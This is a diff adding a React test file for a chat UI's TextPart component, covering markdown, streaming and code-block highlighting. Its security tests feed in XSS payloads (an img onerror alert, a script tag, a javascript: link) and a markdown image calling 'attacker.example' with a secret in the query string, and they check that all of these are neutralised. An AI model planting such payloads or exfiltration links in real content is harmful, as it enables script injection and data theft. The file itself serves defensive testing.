@@ -1,0 +1,175 @@
+import { act, render, screen, within } from '@testing-library/react'
+import type { ComponentProps } from 'react'
+import { describe, expect, it, vi } from 'vitest'
+import { ChatpartsProvider } from '../../src/components/config'
+import { Markdown } from '../../src/components/Markdown/Markdown'
+import { TextPart } from '../../src/components/TextPart/TextPart'
+import { createUrlPolicy } from '../../src/components/urlPolicy'
+import type { TextPart as TextPartData } from '../../src/core/model/types'
+import { opencodeSession } from '../fixtures/opencode'
+import { fakeHighlighter, withConfig } from './helpers'
+
+const userText = opencodeSession.messages[0]?.parts[0] as TextPartData
+const text = (value: string, extra: Partial<TextPartData> = {}): TextPartData => ({ ...userText, text: value, ...extra })
+
+describe('TextPart', () => {
+  it('renders the real user message as markdown, inline code included', () => {
+    render(<TextPart part={userText} />, { wrapper: withConfig() })
+    expect(screen.getByText('TEST_EDITS.md').tagName).toBe('CODE')
+    expect(document.querySelector('[data-part="text"]')).not.toBeNull()
+  })
+
+  it('renders GFM: tables, task lists, strikethrough and autolinks', () => {
+    const markdown = '| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~ www.example.com'
+    render(<TextPart part={text(markdown)} />, { wrapper: withConfig() })
+    expect(screen.getByRole('table')).toBeTruthy()
+    expect(screen.getAllByRole('checkbox').map((box) => (box as HTMLInputElement).checked)).toEqual([true, false])
+    expect(screen.getByText('old').tagName).toBe('DEL')
+    const link = screen.getByRole('link', { name: 'www.example.com' })
+    expect(link.getAttribute('href')).toBe('http://www.example.com/')
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
+    expect(link.getAttribute('target')).toBe('_blank')
+  })
+
+  it('shows raw HTML as text, never as elements', () => {
+    render(<TextPart part={text('Hi <img src=x onerror="alert(1)"> <b>bold</b>\n\n<script>alert(1)</script>')} />, { wrapper: withConfig() })
+    expect(document.querySelector('img, script, b')).toBeNull()
+    expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeTruthy()
+    expect(screen.getByText(/onerror/)).toBeTruthy()
+  })
+
+  it('does not link script URLs, and keeps remote images behind a click', () => {
+    render(<TextPart part={text('[click](javascript:alert(1)) ![chart](https://attacker.example/p.png?d=secret)')} />, { wrapper: withConfig() })
+    expect(screen.queryByRole('link')).toBeNull()
+    expect(screen.getByText('click').className).toBe('cp-link-blocked')
+    expect(document.querySelector('img')).toBeNull()
+    act(() => screen.getByRole('button', { name: /Load image from attacker\.example/ }).click())
+    expect(screen.getByRole('img', { name: 'chart' }).getAttribute('src')).toBe('https://attacker.example/p.png?d=secret')
+  })
+
+  it('loads images from allowed origins at once', () => {
+    render(<TextPart part={text('![logo](https://cdn.example.com/logo.png)')} />, {
+      wrapper: withConfig({ urlPolicy: createUrlPolicy({ imageOrigins: ['https://cdn.example.com'] }) }),
+    })
+    expect(screen.getByRole('img', { name: 'logo' })).toBeTruthy()
+  })
+
+  it('marks synthetic and ignored text instead of hiding it', () => {
+    const { rerender } = render(<TextPart part={text('Summary of earlier work', { synthetic: true })} />, { wrapper: withConfig() })
+    expect(screen.getByText('Added by the agent')).toBeTruthy()
+    expect(screen.getByText('Summary of earlier work')).toBeTruthy()
+    rerender(<TextPart part={text('Skipped', { ignored: true })} />)
+    expect(screen.getByText('Ignored')).toBeTruthy()
+    expect(document.querySelector('[data-ignored]')).not.toBeNull()
+  })
+})
+
+describe('TextPart while streaming', () => {
+  const renderStreaming = (value: string) => render(<TextPart part={text(value)} streaming />, { wrapper: withConfig() })
+
+  it('renders an unclosed code fence as a code block, not as text', () => {
+    renderStreaming('Here:\n\n```ts\nconst a = 1\nconst b')
+    const block = document.querySelector('.cp-code') as HTMLElement
+    expect(block.dataset.lang).toBe('ts')
+    expect(within(block).getByText(/const a = 1/)).toBeTruthy()
+    expect(document.body.textContent).not.toContain('```')
+  })
+
+  it('never flashes raw emphasis, code or link syntax', () => {
+    for (const partial of ['It is **very', 'Run `npm', 'See [docs](https://exa', 'It is *quite']) {
+      const { unmount, container } = renderStreaming(partial)
+      expect(container.textContent, partial).not.toMatch(/\*|`|\[|\]|\(/)
+      unmount()
+    }
+  })
+
+  it('keeps a half-typed table a table', () => {
+    const { container, rerender } = renderStreaming('| Name | Size |')
+    expect(container.querySelector('table')).not.toBeNull()
+    rerender(<TextPart part={text('| Name | Size |\n|--')} streaming />)
+    expect(container.querySelector('table')).not.toBeNull()
+    rerender(<TextPart part={text('| Name | Size |\n|---|---|\n| a.txt | 1')} streaming />)
+    expect(container.querySelectorAll('tbody tr')).toHaveLength(1)
+  })
+
+  it('does not re-render finished blocks while the tail grows', () => {
+    const rendered: string[] = []
+    const components: ComponentProps<typeof Markdown>['components'] = {
+      p: ({ children }) => {
+        rendered.push(String(Array.isArray(children) ? children.join('') : children))
+        return <p>{children}</p>
+      },
+    }
+    let tail = 'Second'
+    const { rerender } = render(<Markdown text={`First paragraph.\n\n${tail}`} streaming components={components} />, { wrapper: withConfig() })
+    for (const word of [' grows', ' word', ' by', ' word.']) {
+      tail += word
+      rerender(<Markdown text={`First paragraph.\n\n${tail}`} streaming components={components} />)
+    }
+    expect(rendered.filter((paragraph) => paragraph === 'First paragraph.')).toHaveLength(1)
+    expect(rendered.filter((paragraph) => paragraph.startsWith('Second'))).toHaveLength(5)
+  })
+})
+
+describe('code blocks', () => {
+  it('shows plain code at once, then highlighted code once the grammar loads', async () => {
+    const fake = fakeHighlighter()
+    render(
+      <ChatpartsProvider highlighter={fake.highlighter}>
+        <TextPart part={text('```ts\nconst answer = 42\n```')} />
+      </ChatpartsProvider>,
+    )
+    expect(screen.getByText('const answer = 42')).toBeTruthy()
+    expect(document.querySelector('.cp-code__token')).toBeNull()
+    await act(async () => fake.release())
+    expect([...document.querySelectorAll('.cp-code__token')].map((token) => token.textContent)).toEqual(['const', ' ', 'answer', ' ', '=', ' ', '42'])
+    expect(screen.getByText('ts')).toBeTruthy()
+  })
+
+  it('highlights a growing block incrementally: each complete line once, and never back to plain', async () => {
+    const fake = fakeHighlighter()
+    fake.release()
+    const lines = ['def main():', '    print("hi")', '    return 0']
+    const { rerender } = render(
+      <ChatpartsProvider highlighter={fake.highlighter}>
+        <TextPart part={text('```py\n')} streaming />
+      </ChatpartsProvider>,
+    )
+    await act(async () => {})
+    let source = '```py\n'
+    const highlightedBefore: number[] = []
+    for (const line of lines) {
+      for (const char of line) {
+        source += char
+        rerender(
+          <ChatpartsProvider highlighter={fake.highlighter}>
+            <TextPart part={text(source)} streaming />
+          </ChatpartsProvider>,
+        )
+        const highlighted = [...document.querySelectorAll('.cp-code__line')].filter((element) => element.querySelector('.cp-code__token')).length
+        expect(highlighted).toBeGreaterThanOrEqual(highlightedBefore.at(-1) ?? 0)
+        highlightedBefore.push(highlighted)
+      }
+      source += '\n'
+    }
+    rerender(
+      <ChatpartsProvider highlighter={fake.highlighter}>
+        <TextPart part={text(`${source}\`\`\``)} />
+      </ChatpartsProvider>,
+    )
+    expect(document.querySelectorAll('.cp-code__line .cp-code__token').length).toBeGreaterThan(0)
+    expect([...document.querySelectorAll('.cp-code__line')].every((line) => line.querySelector('.cp-code__token'))).toBe(true)
+    // Complete lines are tokenized once each; the rest of the calls are the live last line.
+    const complete = fake.calls.filter((call) => call.endsWith('\n'))
+    expect(complete).toEqual(['def main():\n', '    print("hi")\n', '    return 0\n'])
+  })
+
+  it('copies the code to the clipboard and says so', async () => {
+    const writeText = vi.fn(() => Promise.resolve())
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
+    render(<TextPart part={text('```sh\nnpm test\n```')} />, { wrapper: withConfig() })
+    await act(async () => screen.getByRole('button', { name: 'Copy code' }).click())
+    expect(writeText).toHaveBeenCalledWith('npm test')
+    expect(screen.getByText('Copied')).toBeTruthy()
+  })
+})
